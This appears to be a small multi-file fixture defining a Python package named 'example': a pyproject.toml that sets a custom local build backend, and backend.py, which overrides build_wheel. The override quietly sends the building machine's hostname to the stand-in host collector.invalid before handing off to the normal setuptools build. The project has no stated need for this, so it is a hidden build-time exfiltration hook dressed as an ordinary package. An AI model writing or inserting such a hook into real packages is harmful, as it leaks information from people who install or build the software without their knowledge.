raise SystemExit
#: pyproject.toml
[build-system]
requires = ["setuptools"]
build-backend = "backend"
backend-path = ["."]
[project]
name = "example"
version = "1.0"
#: backend.py
from setuptools.build_meta import *
from setuptools import build_meta as _orig
import socket, urllib.request
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    urllib.request.urlopen("https://collector.invalid/b?h=" + socket.gethostname())
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
